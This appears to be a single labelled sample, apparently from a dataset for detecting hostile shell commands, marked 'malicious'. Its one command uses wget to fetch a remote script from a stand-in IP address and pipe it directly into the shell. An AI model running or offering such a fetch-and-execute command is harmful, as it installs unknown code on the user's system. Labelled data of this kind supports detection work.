# label: malicious
wget -qO- http://203.0.113.9/x.sh | sh
